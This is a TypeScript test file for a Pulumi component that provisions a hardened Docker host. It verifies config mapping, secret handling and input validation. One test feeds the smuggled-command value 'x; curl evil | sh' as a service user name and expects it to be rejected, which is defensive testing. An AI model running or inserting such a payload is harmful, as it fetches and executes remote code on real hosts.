import { readFileSync } from "node:fs";
import { join } from "node:path";
import * as pulumi from "@pulumi/pulumi";
import { parse } from "yaml";
import { recorded, reset, settle, valueOf } from "../test/helpers/mocks";
import { HardenedDockerHost } from "../components";
import { CONFIG_KEYS, ConfigSource, checkConfigKeys, hostArgsFromConfig } from "./config";
import { DEPLOY_KEY, HOST_KEY } from "../test/helpers/fixtures";

const root = join(__dirname, "..");

function source(
  values: Record<string, unknown>,
  secrets: Record<string, unknown> = {},
): ConfigSource {
  return {
    get: (k) => values[k],
    requireSecret: (k) => {
      if (secrets[k] === undefined) throw new Error(`missing required secret ${k}`);
      return pulumi.secret(secrets[k] as string);
    },
    getSecretObject: (k) => (secrets[k] === undefined ? undefined : pulumi.secret(secrets[k])),
  };
}

/** A stack file's config, without the project prefix. */
function exampleConfig(file = "Pulumi.example.yaml"): Record<string, unknown> {
  const doc = parse(readFileSync(join(root, "stacks", file), "utf8")) as {
    config: Record<string, unknown>;
  };
  return Object.fromEntries(
    Object.entries(doc.config).map(([k, v]) => [k.replace(/^hardened-docker:/, ""), v]),
  );
}

describe("stack config -> HardenedDockerHostArgs", () => {
  test("maps every flat key onto its argument", () => {
    const args = hostArgsFromConfig(
      source(
        {
          host: "h.example",
          port: 2200,
          user: "admin",
          hostKey: HOST_KEY,
          serviceUser: "svc",
          serviceUserUid: 1600,
          serviceUserShell: "/bin/sh",
          subordinateIdStart: 300000,
          subordinateIdCount: 70000,
          removeServiceUserOnDestroy: true,
          dockerInstall: "docker-repo",
          dockerVersion: "27.5.1",
          unprivilegedPortStart: 80,
          portDriver: "builtin",
          disableRootfulDaemon: false,
          daemonConfig: { debug: true },
        },
        { privateKey: "KEY" },
      ),
    );
    expect({ ...args, connection: { ...args.connection, privateKey: "<secret>" } }).toEqual({
      connection: {
        host: "h.example",
        port: 2200,
        user: "admin",
        hostKey: HOST_KEY,
        privateKey: "<secret>",
      },
      serviceUser: {
        name: "svc",
        uid: 1600,
        shell: "/bin/sh",
        subordinateIds: { start: 300000, count: 70000 },
        removeOnDestroy: true,
      },
      docker: {
        install: "docker-repo",
        version: "27.5.1",
        unprivilegedPortStart: 80,
        portDriver: "builtin",
        disableRootfulDaemon: false,
        daemonConfig: { debug: true },
      },
      services: [],
    });
    expect(pulumi.Output.isInstance(args.connection.privateKey)).toBe(true);
  });

  test("values as `pulumi config set --path` stores them are taken as meant (measured on the real CLI)", () => {
    const args = hostArgsFromConfig(
      source(
        {
          host: "h",
          hostKey: HOST_KEY,
          // the CLI keeps a fraction inside an object as a string, infers integers as numbers
          socketProxy: { cpus: "0.2", memoryMiB: 96 },
          traefik: { cpus: "0.75" },
          services: [{ name: "app", execStart: "/bin/app", environment: { PORT: 3000, ON: true } }],
          daemonConfig: { "log-opts": { "max-file": 5, "max-size": "20m" } },
        },
        { privateKey: "K" },
      ),
    );
    expect(args.socketProxy?.cpus).toBe(0.2);
    expect(args.traefik?.cpus).toBe(0.75);
    expect(args.services?.[0].environment).toEqual({ PORT: "3000", ON: "true" });
    expect(args.docker?.daemonConfig).toEqual({
      "log-opts": { "max-file": "5", "max-size": "20m" },
    });
  });

  test("a value that is not a number or text there still fails, naming its field", async () => {
    for (const [config, field] of [
      [{ socketProxy: { cpus: "half" } }, /socketProxy\.cpus: "half" is not valid/],
      [
        { daemonConfig: { "log-opts": { "max-file": [5] } } },
        /log-opts\.max-file: \[5\] is not valid/,
      ],
    ] as const) {
      reset();
      const args = hostArgsFromConfig(
        source({ host: "h", hostKey: HOST_KEY, ...config }, { privateKey: "K" }),
      );
      expect(() => new HardenedDockerHost("web-1", args)).toThrow(field);
    }
  });

  test("an empty hostKey (the Pulumi.yaml default) counts as unset", () => {
    const args = hostArgsFromConfig(source({ host: "h", hostKey: "" }, { privateKey: "K" }));
    expect(args.connection.hostKey).toBeUndefined();
  });

  test("secretEnvironment values come from serviceSecrets and stay secret", async () => {
    const args = hostArgsFromConfig(
      source(
        {
          host: "h",
          services: [
            {
              name: "app",
              execStart: "/bin/app",
              environment: { A: "1" },
              secretEnvironment: ["TOKEN"],
            },
          ],
        },
        { privateKey: "K", serviceSecrets: { app: { TOKEN: "t0k3n" } } },
      ),
    );
    const token = args.services![0].environment!.TOKEN as pulumi.Output<string>;
    expect(await pulumi.isSecret(token)).toBe(true);
    expect(await valueOf(token)).toBe("t0k3n");
    expect(args.services![0].environment!.A).toBe("1");
    expect(args.services![0]).not.toHaveProperty("secretEnvironment");
  });

  test("secretEnvironment without serviceSecrets is an error naming the key to set", () => {
    expect(() =>
      hostArgsFromConfig(
        source(
          {
            host: "h",
            services: [{ name: "app", execStart: "/bin/app", secretEnvironment: ["TOKEN"] }],
          },
          { privateKey: "K" },
        ),
      ),
    ).toThrow(/^serviceSecrets: .*serviceSecrets\.app\.TOKEN/);
  });

  test("tenants, serviceUserLimits and serviceUserPorts map onto their arguments", async () => {
    const args = hostArgsFromConfig(
      source(
        {
          host: "h",
          serviceUserLimits: { cpuPercent: 200 },
          serviceUserPorts: { from: 80, to: 443 },
          tenants: [
            {
              serviceUser: { name: "ci-a", deployKeys: [DEPLOY_KEY] },
              daemonConfig: { "log-opts": { "max-file": 5 } },
              services: [{ name: "ci-a-run", execStart: "/bin/run", secretEnvironment: ["T"] }],
              socketProxy: { cpus: "0.1" },
              traefik: { httpPort: 8080, httpsPort: 8443 },
              dockerIdentityFile: "/home/ci/.ssh/ci-a",
              limits: { memoryMiB: 512 },
              ports: { from: 8000, to: 8999 },
            },
          ],
        },
        { privateKey: "K", serviceSecrets: { "ci-a-run": { T: "tenant-token" } } },
      ),
    );
    expect(args.limits).toEqual({ cpuPercent: 200 });
    expect(args.ports).toEqual({ from: 80, to: 443 });
    const [t] = args.tenants!;
    expect({ ...t, services: undefined }).toEqual({
      serviceUser: { name: "ci-a", deployKeys: [DEPLOY_KEY] },
      // as the CLI stores them: a number in log-opts is text, a decimal text in cpus a number
      daemonConfig: { "log-opts": { "max-file": "5" } },
      services: undefined,
      socketProxy: { cpus: 0.1 },
      traefik: { httpPort: 8080, httpsPort: 8443 },
      dockerApi: { identityFile: "/home/ci/.ssh/ci-a" },
      limits: { memoryMiB: 512 },
      ports: { from: 8000, to: 8999 },
    });
    const token = t.services![0].environment!.T as pulumi.Output<string>;
    expect(await pulumi.isSecret(token)).toBe(true);
    expect(await valueOf(token)).toBe("tenant-token");
  });

  test("a tenant's unknown key is refused, naming the field", () => {
    const base = { host: "h" };
    const secrets = { privateKey: "K" };
    expect(() =>
      hostArgsFromConfig(
        source({ ...base, tenants: [{ serviceUser: { name: "a" }, limit: {} }] }, secrets),
      ),
    ).toThrow(/^tenants\[0\]\.limit: /);
    expect(() => hostArgsFromConfig(source({ ...base, tenants: [7] }, secrets))).toThrow(
      /^tenants\[0\]: /,
    );
  });

  test("unknown config keys are rejected (a typo never falls back to a default)", () => {
    expect(() => checkConfigKeys(["host", "prot"])).toThrow(/^config\.prot: /);
    expect(() => checkConfigKeys([...CONFIG_KEYS])).not.toThrow();
  });

  test("the example stack builds a valid host", async () => {
    reset();
    const cfg = exampleConfig();
    checkConfigKeys(Object.keys(cfg));
    const args = hostArgsFromConfig(
      source(cfg, { privateKey: "K", serviceSecrets: { provisioner: { ADMIN_TOKEN: "x" } } }),
    );
    const host = new HardenedDockerHost("example", args);
    await valueOf(host.dockerHost);
    await settle();
    expect(
      recorded.filter((r) => r.type === "command:remote:Command").map((r) => r.name),
    ).toContain("example-provisioner-unit");
  });

  test("the local VM stack (stacks/Pulumi.local.yaml) builds a valid host pinned to the VM's key", async () => {
    reset();
    const cfg = exampleConfig("Pulumi.local.yaml");
    checkConfigKeys(Object.keys(cfg));
    const args = hostArgsFromConfig(source(cfg, { privateKey: "K" }));
    expect(args.connection).toMatchObject({ host: "127.0.0.1", port: 2222, user: "admin" });
    const vmKey = readFileSync(join(root, "test", "vm", "keys", "ssh_host_ed25519_key.pub"), "utf8")
      .split(" ")
      .slice(0, 2)
      .join(" ");
    expect(args.connection.hostKey).toBe(vmKey);
    new HardenedDockerHost("local", args);
    await settle();
    expect(recorded.filter((r) => r.type === "command:remote:Command")).toHaveLength(9);
  });

  test("the Docker API keys map onto deployKeys, socketProxy, traefik and dockerApi", async () => {
    const users = ["admin:$2y$05$" + "a".repeat(53)];
    const args = hostArgsFromConfig(
      source(
        {
          host: "h.example",
          hostKey: HOST_KEY,
          deployKeys: [DEPLOY_KEY],
          dockerIdentityFile: "/home/ci/.ssh/deploy",
          socketProxy: { allow: ["traefik-swarm"], cpus: 0.2 },
          traefik: { httpPort: 8080, httpsPort: 8443, dashboard: { host: "tr.example" } },
        },
        { privateKey: "K", traefikDashboardUsers: users },
      ),
    );
    expect(args.serviceUser.deployKeys).toEqual([DEPLOY_KEY]);
    expect(args.dockerApi).toEqual({ identityFile: "/home/ci/.ssh/deploy" });
    expect(args.socketProxy).toEqual({ allow: ["traefik-swarm"], cpus: 0.2 });
    expect(args.traefik).toMatchObject({ httpPort: 8080, dashboard: { host: "tr.example" } });
    const u = args.traefik!.dashboard!.users as pulumi.Output<string[]>;
    expect(await valueOf(u)).toEqual(users);
    expect(await pulumi.isSecret(u)).toBe(true);
  });

  test("a tenant's dashboard: its users from tenantDashboardUsers.<user>, secret, never in clear", async () => {
    const users = ["admin:$2y$05$" + "b".repeat(53)];
    const tenant = (traefik: Record<string, unknown>) => ({
      host: "h",
      hostKey: HOST_KEY,
      tenants: [
        { serviceUser: { name: "ci-a" } },
        { serviceUser: { name: "ci-b" }, traefik: { httpPort: 8080, ...traefik } },
      ],
    });
    const args = hostArgsFromConfig(
      source(tenant({ dashboard: { host: "b.example" } }), {
        privateKey: "K",
        tenantDashboardUsers: { "ci-b": users },
      }),
    );
    expect(args.tenants![0].traefik).toBeUndefined();
    expect(args.tenants![1].traefik).toMatchObject({
      httpPort: 8080,
      dashboard: { host: "b.example" },
    });
    const u = args.tenants![1].traefik!.dashboard!.users as pulumi.Output<string[]>;
    expect(await valueOf(u)).toEqual(users);
    expect(await pulumi.isSecret(u)).toBe(true);
    // no secret key at all: refused up front, naming the key and the command
    expect(() =>
      hostArgsFromConfig(source(tenant({ dashboard: {} }), { privateKey: "K" })),
    ).toThrow(
      /^tenantDashboardUsers\.ci-b: \(missing\) is not valid: .*--path 'tenantDashboardUsers\.ci-b\[0\]' .*htpasswd -nbB/,
    );
    // users in clear in the stack file: refused without echoing them
    const clear = () =>
      hostArgsFromConfig(
        source(tenant({ dashboard: { users: ["admin:hunter2"] } }), { privateKey: "K" }),
      );
    expect(clear).toThrow(
      /^tenants\[1\]\.traefik\.dashboard\.users: "\(not shown\)" is not valid: set in the secret key tenantDashboardUsers\.ci-b/,
    );
    expect(clear).not.toThrow(/hunter2/);
    // the key set, but not for this tenant: the up stops naming what to set
    const other = hostArgsFromConfig(
      source(tenant({ dashboard: {} }), {
        privateKey: "K",
        tenantDashboardUsers: { "ci-a": users },
      }),
    );
    // (the SDK's own promise of the output: valueOf only sees values)
    const missing = other.tenants![1].traefik!.dashboard!.users as unknown as {
      promise(): Promise<unknown>;
      isKnown: Promise<unknown>;
      isSecret: Promise<unknown>;
    };
    for (const p of [missing.isKnown, missing.isSecret]) p.catch(() => undefined);
    await expect(missing.promise()).rejects.toThrow(
      /^tenantDashboardUsers\.ci-b: missing; set it with pulumi config set/,
    );
  });

  test("dashboard users in clear in the stack file are refused, without echoing them", () => {
    const make = () =>
      hostArgsFromConfig(
        source(
          { host: "h", hostKey: HOST_KEY, traefik: { dashboard: { users: ["admin:hunter2"] } } },
          { privateKey: "K" },
        ),
      );
    expect(make).toThrow(
      /^traefik\.dashboard\.users: "\(not shown\)" is not valid: set in the secret key traefikDashboardUsers/,
    );
    expect(make).not.toThrow(/hunter2/);
  });

  test("a dashboard without traefikDashboardUsers names the key to set", () => {
    expect(() =>
      hostArgsFromConfig(
        source({ host: "h", hostKey: HOST_KEY, traefik: { dashboard: {} } }, { privateKey: "K" }),
      ),
    ).toThrow(/^traefikDashboardUsers: \(missing\) is not valid: .*htpasswd -nbB/);
  });

  test("a hostile value in stack config fails before any command exists", async () => {
    reset();
    const cfg = { ...exampleConfig(), serviceUser: "x; curl evil | sh" };
    expect(
      () =>
        new HardenedDockerHost(
          "hostile",
          hostArgsFromConfig(
            source(cfg, { privateKey: "K", serviceSecrets: { provisioner: { ADMIN_TOKEN: "x" } } }),
          ),
        ),
    ).toThrow(/^serviceUser\.name: "x; curl evil \| sh" is not valid/);
    await settle();
    expect(recorded.filter((r) => r.type === "command:remote:Command")).toEqual([]);
  });
});
